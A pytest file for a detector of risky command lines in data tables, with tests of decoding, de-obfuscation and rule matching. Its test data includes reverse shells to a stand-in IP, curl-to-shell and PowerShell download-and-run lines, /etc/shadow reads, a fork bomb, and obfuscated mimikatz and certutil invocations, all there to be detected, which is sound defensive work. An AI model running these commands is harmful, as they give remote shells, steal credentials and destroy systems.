"""Risky command lines in tables: any make, any content, what is encoded or broken up, and where it stands."""

from __future__ import annotations

import base64
import datetime as dt

import pandas
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flowsleuth.errors import OptionError
from flowsleuth.extract.command_lines import load_rules, risky_cmd_line, risky_commands
from flowsleuth.extract.command_lines.risky import COLUMNS, NOT_WHOLE

NETCAT = "nc -e /bin/sh 192.0.2.7 4444"


def _utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _rules(found: pandas.DataFrame) -> list[tuple[object, str]]:
    return list(found[["row", "rule"]].itertuples(index=False, name=None))


def test_what_msticpy_takes_for_risky_and_what_it_misses() -> None:
    commands = [
        "wget https://www.washington.edu/files/data.tar.gz", "apt-get install curl openssh-server bash",
        "usermod -s /bin/bash bob", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", NETCAT, "cat /etc/shadow",
        "echo Y3VybCBodHRwOi8vMTkyLjAuMi43 | base64 -d | sh", "curl http://192.0.2.7/a.sh | sh",
        "echo key >> ~/.ssh/authorized_keys", ":(){ :|:& };:", "mv /etc /dev/null", "/bin/bash", "ls",
    ]  # fmt: skip
    found = risky_cmd_line(pandas.DataFrame({"Command": commands}), "Syslog")
    assert found.loc[found["severity"] == "high", "row"].drop_duplicates().tolist() == [3, 4, 5, 6, 7, 8, 9, 10]
    assert set(found["row"]) == {3, 4, 5, 6, 7, 8, 9, 10}


def test_findings_at_the_same_time_are_all_told() -> None:
    times = [dt.datetime(2024, 1, 1, 10)] * 2
    events = pandas.DataFrame({"TimeGenerated": times, "Command": [NETCAT, "cat /etc/shadow"]})
    assert _rules(risky_cmd_line(events, "Syslog")) == [(0, "reverse-shell-netcat"), (1, "shadow-read")]


def test_one_row_in_full() -> None:
    found = risky_commands(pa.table({"CommandLine": [None, f"sudo {NETCAT}"]}))
    assert found.column_names == list(COLUMNS)
    assert found.to_pylist() == [
        {
            "row": 1,
            "column": "CommandLine",
            "severity": "high",
            "rule": "reverse-shell-netcat",
            "title": "Netcat hands a shell to the network",
            "technique": "T1059.004, T1095",
            "reason": "Whoever is at the other end of the connection has the shell.",
            "matched": "nc -e /bin/sh",
            "offset": 5,
            "decode_path": None,
            "decoded_text": None,
            "command_line": f"sudo {NETCAT}",
        }
    ]


@pytest.mark.parametrize("make", ["pandas", "arrow", "polars"])
def test_each_make_of_table_gives_its_own(make: str) -> None:
    table = pa.table({"cmd": ["ls", NETCAT, None, NETCAT]})
    if make == "polars":
        polars = pytest.importorskip("polars")
        given = polars.from_arrow(table)
    else:
        given = table.to_pandas() if make == "pandas" else table
    found = risky_commands(given, "cmd")
    assert type(found) is type(given)
    assert list(found["row"].to_pylist() if make == "arrow" else found["row"]) == [1, 3]


def test_content_of_any_kind_is_harmless_and_the_input_stays_as_it_is() -> None:
    cells = [
        NETCAT,
        None,
        7,
        float("nan"),
        b"cat /etc/shadow\xff",
        "",
        "\ud800",
        ["nc", "-e"],
        pandas.NaT,
        "x" * 40_000,
    ]
    frame = pandas.DataFrame({"cmd": pandas.Series(cells, list("abcdefghij"), dtype=object)})
    before = frame.copy(deep=True)
    assert _rules(risky_commands(frame, "cmd")) == [("a", "reverse-shell-netcat"), ("e", "shadow-read")]
    assert frame.equals(before)


def test_no_rows_and_nothing_found() -> None:
    for frame in (pandas.DataFrame({"cmd": []}), pandas.DataFrame({"cmd": ["ls", None]})):
        found = risky_commands(frame, "cmd")
        assert len(found) == 0 and list(found.columns) == list(COLUMNS)


def test_what_is_encoded_is_decoded_first_to_the_last_layer() -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
    lines = [
        f"powershell -enc {_utf16(inner)}",
        f"powershell -enc {_utf16('powershell -enc ' + _utf16(inner))}",
        f"echo {_base64('cat /etc/shadow')}",
    ]
    found = risky_commands(pandas.DataFrame({"cmd": lines}), "cmd")
    hidden = found[found["decode_path"].notna()]
    assert {(0, "powershell-download-and-run"), (1, "powershell-download-and-run"), (2, "shadow-read")} <= set(
        _rules(hidden)
    )
    for one in hidden.to_dict("records"):
        assert one["matched"] in one["decoded_text"]
        assert one["command_line"][one["offset"] :].split()[0] == one["command_line"].split()[-1]
    assert not risky_commands(pandas.DataFrame({"cmd": lines[2:]}), "cmd", decode=False)["rule"].tolist()


@pytest.mark.parametrize(
    ("line", "rule", "at"),
    [
        ("cmd /c p^o^w^e^r^s^h^e^l^l -w hidden", "powershell-hidden-window", "p^o^w"),
        ("cert^util -urlca^che -split -f http://192.0.2.7/a a", "certutil-download", "cert^util"),
        ('mi"mi"ka"tz', "mimikatz", 'mi"mi'),
        ("powershell In`voke-Web`Request http://192.0.2.7/a -Ou`tFile a", "powershell-download", "In`voke"),
        ("ca''t /etc/sha''dow", "shadow-read", "ca''t"),
        ("cat${IFS}/etc/shadow", "shadow-read", "cat$"),
        ("{cat,/etc/shadow};cat$IFS/etc/shadow", "shadow-read", "cat$"),
    ],
)
def test_words_that_are_broken_up_are_put_together(line: str, rule: str, at: str) -> None:
    found = risky_commands(pandas.DataFrame({"cmd": [line]}), "cmd").set_index("rule")
    assert found.loc[rule, "decode_path"] == "escapes removed"
    assert line[found.loc[rule, "offset"] :].startswith(at)


def test_constants_of_powershell_are_worked_out() -> None:
    lines = [
        "powershell ($w.('Down'+'loadString')('http://192.0.2.7/a'))|&('{1}{0}'-f'ex','i')",
        "powershell ([char]109+'imi'+'katz')",
    ]
    found = risky_commands(pandas.DataFrame({"cmd": lines}), "cmd")
    told = found[found["decode_path"] == "constants worked out"]
    assert {(0, "powershell-download-and-run"), (1, "mimikatz")} <= set(_rules(told))
    assert told["offset"].tolist() == [0] * len(told)
    assert "mimikatz" not in risky_commands(pandas.DataFrame({"cmd": lines}), "cmd", decode=False)["rule"].tolist()


def test_as_written_is_told_before_other_views() -> None:
    found = risky_commands(pandas.DataFrame({"cmd": [f"echo ^^^ & {NETCAT}"]}), "cmd")
    assert found.loc[found["rule"] == "reverse-shell-netcat", "decode_path"].isna().tolist() == [True]


def test_several_columns_each_tell_their_name() -> None:
    frame = pandas.DataFrame({"a": [NETCAT, "ls"], "b": ["ls", "cat /etc/shadow"]})
    found = risky_commands(frame, ["a", "b"])
    assert found[["row", "column"]].values.tolist() == [[0, "a"], [1, "b"]]


def test_wrong_use_is_told() -> None:
    frame = pandas.DataFrame({"CommandLine": ["ls"]})
    with pytest.raises(OptionError, match="did you mean CommandLine"):
        risky_commands(frame, "Commandline")
    with pytest.raises(OptionError, match="name the column"):
        risky_commands(pandas.DataFrame({"pid": [1]}))
    with pytest.raises(OptionError, match="no columns"):
        risky_commands(frame, [])
    with pytest.raises(OptionError, match="no such log type"):
        risky_cmd_line(frame, "Syslogs", cmd_field="CommandLine")


def test_rules_of_ones_own_in_place_of_ours(tmp_path) -> None:
    file = tmp_path / "own.yaml"
    file.write_text(
        "- {id: own, title: Own, reason: Ours., techniques: [T1059], severity: low, platform: any,"
        " needs: [frobnicate], match: ['frobnicate\\s+-x']}"
    )
    frame = pandas.DataFrame({"Command": ["frobnicate -x", NETCAT]})
    assert _rules(risky_cmd_line(frame, detection_rules=file)) == [(0, "own")]
    assert _rules(risky_commands(frame, rules=load_rules(file), least="high")) == []


LINES = st.one_of(st.none(), st.text(max_size=60), st.sampled_from([NETCAT, "p^o^w^e^rshell -w hidden"]))


@settings(max_examples=20, deadline=None)
@given(st.lists(LINES, max_size=5))
def test_a_row_is_judged_by_itself(lines: list[str | None]) -> None:
    tables = [pa.table({"cmd": pa.array(part, pa.string())}) for part in (lines, *([line] for line in lines))]
    together, *alone = [risky_commands(table, "cmd").to_pylist() for table in tables]
    assert together == [one | {"row": row} for row, found in enumerate(alone) for one in found]


def test_what_was_not_looked_at_is_told_whatever_was_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    deep = "whoami /all && net user"
    for _ in range(22):
        deep = _base64(deep)
    lines = pandas.DataFrame({"cmd": ["ls", f"echo {deep}", f"{NETCAT} {deep}", f"echo {_base64('whoami /all')}"]})
    found = risky_commands(lines, "cmd", least="high")
    assert _rules(found) == [(1, NOT_WHOLE), (2, "reverse-shell-netcat"), (2, NOT_WHOLE)]
    told = found.iloc[0]
    assert told["reason"] == "Encoded more than 20 levels deep; the rest was not looked at."
    assert (told["severity"], pandas.isna(told["matched"]), told["offset"]) == ("low", True, 5)
    assert told["command_line"] == f"echo {deep}"
    assert _rules(risky_commands(lines, "cmd", least="high", decode=False)) == [(2, "reverse-shell-netcat")]
    monkeypatch.setattr("flowsleuth.extract.command_lines.views.ALL_DECODED", 1_024)
    many = pandas.DataFrame({"cmd": [f"echo {_base64(f'whoami {n} ' * 40)}" for n in range(9)]})
    rows = risky_commands(many, "cmd", least="high")
    assert rows["rule"].unique().tolist() == [NOT_WHOLE]
    assert rows["row"].tolist() == list(range(rows["row"].min(), 9))
    assert rows["reason"].iloc[0].startswith("All rows together become more than 1,024 bytes")
    monkeypatch.setattr("flowsleuth.extract.command_lines.views.LONGEST_SCRIPT", 50)
    script = pandas.DataFrame({"cmd": ["powershell ('Invoke' + '-Something') " + "x" * 50]})
    assert risky_commands(script, "cmd", least="high")["reason"].tolist() == [
        "Constants of scripts of more than 50 characters are not worked out."
    ]
